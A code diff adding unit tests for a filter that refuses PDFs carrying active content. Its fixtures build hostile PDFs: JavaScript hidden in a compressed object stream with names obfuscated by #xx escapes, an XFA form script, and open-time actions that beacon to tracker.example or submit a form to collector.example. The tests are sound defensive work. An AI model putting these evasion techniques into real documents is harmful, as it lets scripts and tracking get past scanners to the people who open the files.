@@ -141,6 +141,45 @@ describe('active content in news PDFs', () => {
     expect(isPdf(pdfOf([catalog(''), PAGES, text]))).toBe(true);
     expect(isPdf(pdfOf([catalog(''), PAGES, stream('/Filter /FlateDecode', noise(4 * 1024 * 1024))]))).toBe(true);
   });
+  it('finds an object stream whose type is written with #xx escapes, and the script it hides', () => {
+    const hidden = stream(
+      '/Type /Obj#53tm /N 1 /First 4 /Filter /Fl#61teDecode',
+      deflateSync(Buffer.from('9 0 << /S /JavaScript /JS (app.alert(1)) >>', 'latin1')),
+    );
+    const pdf = pdfOf([catalog('/OpenAction 9 0 R'), PAGES, hidden]);
+    expect(pdf.toString('latin1')).not.toMatch(/ObjStm|JavaScript/);
+    expect(pdfRefusal(pdf)).toBe('errors.pdfActiveContent');
+  });
+  it('refuses an XFA form, whatever its packets hold', () => {
+    const xml = deflateSync(
+      Buffer.from('<xdp:xdp><template><event activity="initialize"><script>app.alert(1)</script></event></template></xdp:xdp>'),
+    );
+    const form = (xfa: string) => pdfOf([catalog(`/AcroForm << /Fields [] ${xfa} >>`), PAGES, stream('/Filter /FlateDecode', xml)]);
+    expect(pdfRefusal(form('/XFA 3 0 R'))).toBe('errors.pdfActiveContent');
+    expect(pdfRefusal(form('/X#46A [(template) 3 0 R]'))).toBe('errors.pdfActiveContent');
+  });
+  it('refuses an action run by itself that is not a GoTo: a URI, a form submitted or data imported on opening', () => {
+    const refused = [
+      pdfOf([catalog('/OpenAction << /S /URI /URI (https://tracker.example/open) >>'), PAGES]),
+      pdfOf([catalog('/OpenAction 3 0 R'), PAGES, '<< /S /SubmitForm /F (https://collector.example/) >>']),
+      pdfOf([
+        catalog(''),
+        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        '<< /Type /Page /Parent 2 0 R /AA << /O 4 0 R >> >>',
+        '<< /S /ImportData /F (x.fdf) >>',
+      ]),
+      pdfOf([catalog('/OpenAction << /S /GoTo /D [2 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/) >> >>'), PAGES]),
+      pdfOf([catalog('/Open#41ction << /S /U#52I /URI (https://tracker.example/) >>'), PAGES]),
+      pdfOf([catalog('/OpenAction 9 0 R'), PAGES, objectStream('<< /S /URI /URI (https://tracker.example/) >>')]),
+    ];
+    for (const pdf of refused) expect(pdfRefusal(pdf)).toBe('errors.pdfActiveContent');
+  });
+  it('accepts opening on a page (GoTo or a destination) and links the reader follows only when clicked', () => {
+    expect(pdfRefusal(pdfOf([catalog('/OpenAction << /S /GoTo /D [2 0 R /Fit] >>'), PAGES]))).toBeUndefined();
+    expect(pdfRefusal(pdfOf([catalog('/OpenAction [2 0 R /FitH 792]'), PAGES]))).toBeUndefined();
+    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.com/) >> >>';
+    expect(pdfRefusal(pdfOf([catalog(''), PAGES, link]))).toBeUndefined();
+  });
   it('stays fast on hostile input', () => {
     const started = performance.now();
     const hostile = pdfOf([
